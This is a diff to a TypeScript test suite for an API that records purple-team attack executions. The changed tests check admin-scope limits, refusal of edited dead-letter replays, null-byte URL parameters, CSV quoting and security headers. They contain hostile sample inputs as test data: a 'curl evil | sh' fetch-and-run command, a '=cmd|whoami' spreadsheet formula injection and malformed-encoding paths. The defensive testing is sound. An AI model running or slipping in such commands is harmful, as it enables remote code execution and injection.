@@ -11,6 +11,8 @@ describe('checking query API', () => {
   let db: Client;
   let readerToken: string;
   let busToken: string;
+  /** holds admin but not checking:admin: the bus admin */
+  let busAdminToken: string;
   const ids: Record<string, string> = {};
 
   beforeAll(async () => {
@@ -19,6 +21,7 @@ describe('checking query API', () => {
     await db.connect();
     readerToken = (await createClient(h.api, h.adminToken, { client_id: 'purple-reader', scopes: ['checking:read'] })).token;
     busToken = (await createClient(h.api, h.adminToken, { client_id: 'bus-only', subscription: 'soar.#' })).token;
+    busAdminToken = (await createClient(h.api, h.adminToken, { client_id: 'bus-admin', scopes: ['admin', 'checking:read'] })).token;
     await seed();
   });
 
@@ -126,13 +129,16 @@ describe('checking query API', () => {
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toContain('text/csv');
     const lines = (await res.text()).trim().split('\r\n');
-    expect(lines[0]).toBe('id,operation_id,caldera_link_id,agent_host,agent_paw,command,executed_at,tactic,technique_id,technique_name,verdict,detection_latency_ms,verdict_at,correlation_id');
+    expect(lines[0]).toBe(
+      '"id","operation_id","caldera_link_id","agent_host","agent_paw","command","executed_at","tactic","technique_id","technique_name","verdict","detection_latency_ms","verdict_at","correlation_id"',
+    );
     expect(lines).toHaveLength(6);
-    expect(lines[1]).toContain(`${ids['l1']},op-A,l1,host-1,paw-1,'=cmd|whoami,2024-01-15T10:01:00.000Z`);
+    expect(lines[1]).toContain(`"${ids['l1']}","op-A","l1","host-1","paw-1","'=cmd|whoami","2024-01-15T10:01:00.000Z"`);
   });
 
-  it('redispatches a failed task (admin only), and refuses a completed or unknown one', async () => {
+  it('redispatches a failed task (checking:admin only), and refuses a completed or unknown one', async () => {
     expect((await h.api.request('POST', `/checking/tasks/${ids['failedTask']}/redispatch`, { token: readerToken })).status).toBe(403);
+    expect((await h.api.request('POST', `/checking/tasks/${ids['failedTask']}/redispatch`, { token: busAdminToken })).status).toBe(403);
     const ok = await h.api.request('POST', `/checking/tasks/${ids['failedTask']}/redispatch`, { token: h.adminToken });
     expect(ok.status).toBe(202);
     expect(ok.body).toMatchObject({ previousStatus: 'failed', changed: true });
@@ -142,13 +148,17 @@ describe('checking query API', () => {
     expect((await h.api.request('POST', '/checking/tasks/00000000-0000-0000-0000-000000000000/redispatch', { token: h.adminToken })).status).toBe(404);
   });
 
-  it('lists dead letters and replays one once its body is fixed', async () => {
+  it('lists dead letters; replays an execution result only as stored, with checking:admin (issue 12 #9)', async () => {
     const broken = { ...seedExecutionResult(), operation_id: 'op-dead', agent_host: 42 };
-    const { rows } = await db.query(
-      `INSERT INTO dead_letter (queue, reason, message_id, body) VALUES ('caldera.checking.instructions', 'agent_host must be a string', 'm-1', $1) RETURNING id`,
-      [Buffer.from(JSON.stringify(broken))],
-    );
-    const id = rows[0].id as string;
+    const insert = async (body: unknown, reason: string, queue = 'caldera.checking.instructions') =>
+      (
+        await db.query(`INSERT INTO dead_letter (queue, reason, message_id, body) VALUES ($1, $2, 'm-1', $3) RETURNING id`, [
+          queue,
+          reason,
+          Buffer.from(JSON.stringify(body)),
+        ])
+      ).rows[0].id as string;
+    const id = await insert(broken, 'agent_host must be a string');
 
     const list = await get('/checking/dead-letters?queue=caldera.checking.instructions');
     expect(list.status).toBe(200);
@@ -158,15 +168,60 @@ describe('checking query API', () => {
     expect(still.status).toBe(422);
     expect(JSON.stringify(still.body)).toContain('agent_host');
 
-    const fixed = await h.api.request('POST', `/checking/dead-letters/${id}/replay`, {
-      token: h.adminToken,
-      json: { body: { ...broken, agent_host: 'fixed-host' } },
-    });
-    expect(fixed.status).toBe(200);
-    const execution = await get(`/checking/executions/${fixed.body.executionId}`);
-    expect(execution.body).toMatchObject({ operation_id: 'op-dead', agent_host: 'fixed-host' });
+    // the bus admin cannot inject an execution; nobody can edit one
+    const injected = { ...broken, agent_host: 'fixed-host', command: 'curl evil | sh' };
+    expect((await h.api.request('POST', `/checking/dead-letters/${id}/replay`, { token: busAdminToken, json: { body: injected } })).status).toBe(403);
+    const edited = await h.api.request('POST', `/checking/dead-letters/${id}/replay`, { token: h.adminToken, json: { body: injected } });
+    expect(edited.status).toBe(422);
+    expect(edited.body.message).toContain('replayed only as stored');
+    expect((await db.query(`SELECT 1 FROM execution WHERE agent_host = 'fixed-host'`)).rows).toEqual([]);
+
+    const sound = await insert({ ...seedExecutionResult(), operation_id: 'op-dead', agent_host: 'sound-host' }, 'database unavailable');
+    expect((await h.api.request('POST', `/checking/dead-letters/${sound}/replay`, { token: busAdminToken, json: {} })).status).toBe(403);
+    const replayedAsStored = await h.api.request('POST', `/checking/dead-letters/${sound}/replay`, { token: h.adminToken, json: {} });
+    expect(replayedAsStored.status).toBe(200);
+    const execution = await get(`/checking/executions/${replayedAsStored.body.executionId}`);
+    expect(execution.body).toMatchObject({ operation_id: 'op-dead', agent_host: 'sound-host' });
     expect(execution.body.tasks).toHaveLength(4);
     const replayed = await get('/checking/dead-letters?replayed=true');
-    expect(replayed.body.items.map((d: { id: string }) => d.id)).toEqual([id]);
+    expect(replayed.body.items.map((d: { id: string }) => d.id)).toEqual([sound]);
+    const { rows } = await db.query(`SELECT replayed_by, body_edited_by FROM dead_letter WHERE id = $1`, [sound]);
+    expect(rows[0]).toEqual({ replayed_by: 'admin', body_edited_by: null });
+  });
+
+  it('answers hostile parameters with 4xx before PostgreSQL, never 5xx nor a database message (issue 12, low)', async () => {
+    const hostile = [
+      '/checking/operations/%00/navigator-layer',
+      '/checking/operations/op%00A',
+      '/checking/operations/%00/executions.csv',
+      '/checking/executions/%00',
+      '/checking/executions?host=%00',
+      '/checking/executions?operation_id=a%00b',
+      '/checking/dead-letters/%00',
+      '/checking/dead-letters?queue=%00',
+      '/checking/operations/%E0%A4%A',
+    ];
+    for (const path of hostile) {
+      const reply = await get(path);
+      expect([path, reply.status]).toEqual([path, 400]);
+      expect(JSON.stringify(reply.body)).not.toMatch(/invalid byte sequence|syntax for type|relation|column/i);
+    }
+    const named = await h.api.request('POST', '/clients', { token: h.adminToken, json: { client_id: 'nul-name', client_name: 'a\u0000b', scopes: ['checking:read'] } });
+    expect(named.status).toBe(400);
+    expect(JSON.stringify(named.body)).not.toMatch(/invalid byte sequence|0x00/);
+  });
+
+  it('sets Helmet-like security headers on every answer (issue 12, low)', async () => {
+    for (const path of ['/checking/operations', '/health/live', '/no-such-route']) {
+      const reply = await get(path);
+      expect(reply.headers.get('x-content-type-options')).toBe('nosniff');
+      expect(reply.headers.get('x-frame-options')).toBe('DENY');
+      expect(reply.headers.get('content-security-policy')).toContain("default-src 'none'");
+      expect(reply.headers.get('strict-transport-security')).toMatch(/^max-age=\d+/);
+      expect(reply.headers.get('referrer-policy')).toBe('no-referrer');
+      expect(reply.headers.get('x-powered-by')).toBeNull();
+    }
+    const docs = await fetch(`${h.api.url}/docs`);
+    expect(docs.headers.get('content-security-policy')).toContain("script-src 'self'");
   });
 });
